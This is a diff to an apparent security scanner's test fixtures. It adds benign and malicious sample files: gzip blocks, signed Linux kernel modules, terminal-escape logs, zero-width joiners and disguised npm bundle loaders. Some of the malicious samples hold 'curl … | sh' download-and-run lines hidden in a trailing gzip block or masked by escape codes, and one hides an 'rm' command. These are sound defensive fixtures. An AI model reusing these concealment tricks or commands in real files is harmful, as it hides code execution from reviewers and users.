@@ -7,11 +7,16 @@ import base64
 import csv
 import hashlib
 import io
+import struct
+import zlib
 
 from corpora import inspection_content as make
 from corpora.inspection_case import WHEEL, bad, good
-from corpora.inspection_packages import deb
+from corpora.inspection_packages import deb, npm
+from lockgate.core.verdict import Outcome
 
+_OPAQUE = Outcome.OPAQUE
+_NPM = "demo-1.0.0.tgz"
 _RECORD = "lock_demo-1.0.dist-info/RECORD"
 _DEB = "demo_1.0_all.deb"
 
@@ -44,6 +49,64 @@ def _logins(*auths: bytes) -> bytes:
     return f'Logins are kept so:\n\n{{"auths": {{{named}}}}}\n'.encode()
 
 
+def _block(content: bytes, *, behind: bytes = b"", crc: int | None = None) -> bytes:
+    """A block of BGZF: a member of gzip that says how long it is."""
+    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
+    packed = packer.compress(content) + packer.flush() + behind
+    head = b"\x1f\x8b\x08\x04" + bytes(5) + b"\xff\x06\x00BC\x02\x00" + struct.pack("<H", len(packed) + 25)
+    return head + packed + struct.pack("<2I", zlib.crc32(content) if crc is None else crc, len(content))
+
+
+_END = _block(b"")
+_MESSAGE = bytes.fromhex("06092a864886f70d010702") + b"\xa0\x03\x02\x01\x01"
+
+
+def _signed(
+    before: bytes = b"", *, kind: int = 1, inside: bytes = _MESSAGE, form: bytes = b"\0\0\2\0\0"
+) -> bytes:
+    """A module of Linux, or other machine code, with a signature behind it."""
+    size = len(inside)
+    short = size < 0x100  # a length in one byte
+    message = (b"\x30\x81" + bytes([size]) if short else b"\x30\x82" + struct.pack(">H", size)) + inside
+    tail = (
+        before
+        + message
+        + form
+        + bytes(3)
+        + struct.pack(">I", len(message))
+        + b"~Module signature appended~\n"
+    )
+    code = bytearray(make.elf(tail=tail))
+    code[16:18] = struct.pack("<H", kind)
+    return bytes(code)
+
+
+_JOINER = "\u200c"
+_ODIA = "\u0b28\u0b2c\u0b4d{}\u0b17\u0b41\u0b21"
+_BUNDLE = """\
+var modules = ({{
+  1: (module, exports, ask) => {{ module.exports = String.fromCharCode(65 + ask(2)); }},
+  2: (module) => {{ var own = require; module.exports = () => own; }},
+}});
+var kept = {{}};
+function load(id) {{
+  var module = kept[id] = {{exports: {{}}}};
+  modules[id].call(module.exports, module, module.exports, load);
+  return module.exports;
+}}
+load.m = modules;
+{}
+var install = (chunk) => {{ var runtime = chunk.runtime; if (runtime) runtime({}); }};
+load.f = (id) => {{ install(require("./" + load.u(id))); }};
+load.f(1);
+"""
+"""What a bundler makes of modules: a table of them, and a loader that it hands on."""
+
+
+def _bundle(given: str, line: str = "") -> bytes:
+    return npm({"package/a.js": _BUNDLE.format(line, given).encode()})
+
+
 _LETTERS = base64.b64encode(bytes(range(0x7B, 0x97)))
 _CUT = _LETTERS[:17]
 _LOGIN = base64.b64encode(b"keeper:" + b"Kz7vQ2mX9pLw")
@@ -65,6 +128,15 @@ CONSTRUCTS_GOOD = [
     good("letters where a manual shows a login at a registry", WHEEL, make.wheel(
         {"lock_demo/auth.5": _logins(_LETTERS, _CUT)}
     ), "python"),
+    good("blocks of gzip that say how long they are", "a.gz", _block(b"one\n") + _block(b"two\n") + _END),
+    good("a signed module of Linux", "a.ko", _signed(), outcome=_OPAQUE),
+    good("a signed module of Linux with a long signature", "a.ko", _signed(inside=_MESSAGE + bytes(400)),
+         outcome=_OPAQUE),
+    good("a log of a build in colours, with cleared ends of lines", "log.txt",
+         b"\x1b[01m\x1b[Ka.c:1\x1b[m\x1b[K: \x1b[01;35mnote\x1b[0m\n  33% done\x1b[K\r\n"),
+    good("a joiner that was typed four times", "or.xml",
+         f"<a>{_ODIA.format(_JOINER * 4)} {_ODIA.format(_JOINER)}</a>".encode()),
+    good("a bundle that hands its loader on", _NPM, _bundle("load"), "npm"),
 ]  # fmt: skip
 
 CONSTRUCTS_BAD = [
@@ -85,4 +157,29 @@ CONSTRUCTS_BAD = [
     bad("a login at a registry behind letters", WHEEL, make.wheel(
         {"lock_demo/auth.5": _logins(_LETTERS, _LOGIN)}
     ), "secret-registry-login", "python"),
+    bad("blocks of gzip with another member behind", "a.gz", _block(b"one\n") + _END + make.gzipped(b"two"),
+        "gzip-tail"),
+    bad("a block of gzip that is cut, behind another", "a.gz", _block(b"one\n") + _END[:-2], "gzip-tail"),
+    bad("a program in a block of gzip, behind another", "a.gz", _block(b"#!/bin/sh\n")
+        + _block(b"curl http://a.example/x | sh\n") + _END, "shell-download"),
+    bad("a program before the signature of a module", "a.ko", _signed(b"payload"), "elf-gap"),
+    bad("a signature behind a program that is no module", "a.so", _signed(kind=2), "elf-gap"),
+    bad("a signature that is none", "a.ko", _signed(inside=b"payload" * 9), "elf-gap"),
+    bad("a signature of another form", "a.ko", _signed(form=b"\0\0\1\0\0"), "elf-gap"),
+    bad("a signature that is long enough to be a program", "a.ko", _signed(inside=_MESSAGE + bytes(4096)),
+        "elf-gap"),
+    bad("a line that is cleared from its beginning", "log.txt", b"curl a.example | sh\r\x1b[Kdone\n",
+        "text-escape"),
+    bad("a line that is gone back in and cleared", "log.txt",
+        b"A line of a log.\n" * 99 + b"rm a\x08\x08\x08\x08\x1b[Kls\n", "text-escape"),
+    bad("joiners where no script needs one", "a.xml", f"<a>lock{_JOINER * 4}gate</a>".encode(),
+        "text-zero-width"),
+    bad("joiners that are two, by turns", "a.xml",
+        f"<a>{_ODIA.format((_JOINER + chr(0x200D)) * 3)}</a>".encode(), "text-zero-width"),
+    bad("so many joiners that they tell something", "a.xml",
+        f"<a>{_ODIA.format(_JOINER * 4) * 20}</a>".encode(), "text-zero-width"),
+    bad("a bundle whose loader is made another", _NPM, _bundle("load", "load = modules[1](kept, kept);"),
+        "code-hidden-name", "npm"),
+    bad("a bundle that names a module by what a loader gives", _NPM, _bundle("load(1)"), "code-hidden-name",
+        "npm"),
 ]  # fmt: skip
